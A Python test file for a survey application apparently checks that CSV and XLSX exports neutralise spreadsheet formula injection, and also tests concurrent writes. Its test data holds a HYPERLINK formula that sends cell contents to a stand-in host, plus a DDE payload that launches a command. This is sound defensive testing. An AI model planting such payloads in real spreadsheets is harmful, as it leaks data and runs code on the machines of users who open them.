"""The answers exports cannot carry a formula (an anonymous public link can write any text); the XLSForm
round trip keeps exact values, stored as text."""

import csv
import io

from openpyxl import load_workbook

from fne_surveys.questionnaires.xlsform import from_workbook, to_workbook
from fne_surveys.results.exports import csv_chunks, workbook

FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'


async def batches():
    yield [["r1", FORMULA, "+cmd|' /C calc'!A0", -2, "@x", "ordinaire"]]


async def test_the_csv_and_xlsx_exports_of_answers_neutralise_formulas() -> None:
    header = ["id", "a", "b", "c", "d", "e"]
    text = b"".join([chunk async for chunk in csv_chunks(header, batches())]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row == ["r1", "'" + FORMULA, "'+cmd|' /C calc'!A0", "-2", "'@x", "ordinaire"]
    sheet = load_workbook(io.BytesIO(await workbook(header, batches()))).active
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert [cell.value for cell in cells] == [
        "r1",
        "'" + FORMULA,
        "'+cmd|' /C calc'!A0",
        -2,
        "'@x",
        "ordinaire",
    ]
    assert all(cell.data_type != "f" for cell in cells)


def test_the_xlsform_workbook_keeps_formula_like_text_exact_and_inert() -> None:
    document = {"survey": [{"type": "text", "name": "q1", "label": FORMULA}], "choices": [], "settings": []}
    content = to_workbook(document)
    sheet = load_workbook(io.BytesIO(content))["survey"]
    label = next(cell for cells in sheet.iter_rows() for cell in cells if cell.value == FORMULA)
    assert label.data_type == "s"
    assert from_workbook(content)["survey"][0]["label"] == FORMULA


async def test_eight_concurrent_writers_queue_instead_of_failing(
    databases, identity_keys, coordinator
) -> None:
    from sqlalchemy import func, select

    from fne_kernel.db import session_factory
    from fne_surveys.config import Settings
    from fne_surveys.main import create_app
    from fne_surveys.questionnaires.models import Questionnaire
    from tests.support import all_at_once, migrated_fresh
    from tests.surveys.factories import small_definition

    url = await migrated_fresh(databases, "fne_surveys", "surveys_writers")
    app = create_app(Settings(database_url=url, identity_public_key=identity_keys[1], access_log=False))
    requests = [
        ("POST", "/questionnaires", {"headers": coordinator, "json": small_definition(code=f"essai-{n}")})
        for n in range(8)
    ]
    assert await all_at_once(app, "http://surveys", requests) == [201] * 8
    async with session_factory(app.state.engine)() as session:
        assert await session.scalar(select(func.count()).select_from(Questionnaire)) == 8
    await app.state.engine.dispose()
